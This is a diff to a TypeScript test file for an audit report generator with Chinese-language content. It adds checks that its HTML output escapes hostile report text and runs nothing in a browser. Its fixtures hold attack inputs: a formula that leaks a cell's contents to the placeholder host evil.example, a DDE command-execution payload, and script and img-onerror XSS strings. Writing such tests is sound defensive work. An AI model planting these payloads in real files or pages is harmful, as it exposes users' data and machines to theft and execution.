@@ -7,6 +7,7 @@ import { buildAudit, type Audit } from '../../src/audit/index.js';
 import { parseCsv } from '../../src/io/csv.js';
 import { writeAuditOutputs } from '../../src/pipeline/audit.js';
 import { finding, report, statement, table } from './helpers.js';
+import { checkPageInBrowser } from '../browser/check.js';
 
 // Report fields a hostile or careless page could carry into the outputs.
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';
@@ -14,7 +15,8 @@ const PLUS = '+1';
 const AT = '@SUM(1,2)';
 const MINUS_CMD = '-2+3+cmd|" /C calc"!A0';
 const TAB = '\t=1+1';
-const SCRIPT = '<script>alert("x")</script>某局';
+const SCRIPT = '<script>console.error("xss")</script>某局';
+const IMG = '<img src=x onerror="console.error(1)">网站栏目不全';
 
 function hostileAudit(): Audit {
   const bad = report({
@@ -35,6 +37,7 @@ function hostileAudit(): Audit {
     statement('hostile', 'problem', AT, [['timeliness', 0.8]]),
     statement('hostile', 'problem', TAB, [['staffing', 0.8]]),
     statement('fine', 'problem', SCRIPT, [['staffing', 0.9]]),
+    statement('fine', 'problem', IMG, [['platform', 0.9]]),
     statement('fine', 'measure', '加强培训', [['staffing', 0.9]]),
   ];
   return buildAudit([bad, ok], st);
@@ -118,8 +121,9 @@ describe('audit outputs', () => {
     const html = readFileSync(join(dir, 'audit.html'), 'utf8');
     expect(html).toContain('<html lang="zh-CN">');
     expect(html).toContain('机构排名');
-    expect(html).not.toContain('<script>alert');
-    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;某局');
+    expect(html).not.toContain('<script');
+    expect(html).not.toContain('<img');
+    expect(html).toContain('&lt;script&gt;console.error(&quot;x');
     // The failed balance check shows its cells with the printed numbers.
     expect(html).toContain('表三一、本年新收·总计');
     expect(html).toContain('applications.new_received.total');
@@ -129,4 +133,11 @@ describe('audit outputs', () => {
     const hostile = audit.reports.find((r) => r.report_id === 'hostile')!;
     for (const i of hostile.issues) expect(html).toContain(i.label);
   });
+
+  it('audit.html with hostile report text runs nothing in a browser', async () => {
+    const check = await checkPageInBrowser(join(dir, 'audit.html'));
+    expect(check.consoleErrors).toEqual([]);
+    expect(check.externalRequests).toEqual([]);
+    expect(check.chartsRendered).toBe(check.chartsFound);
+  }, 60_000);
 });
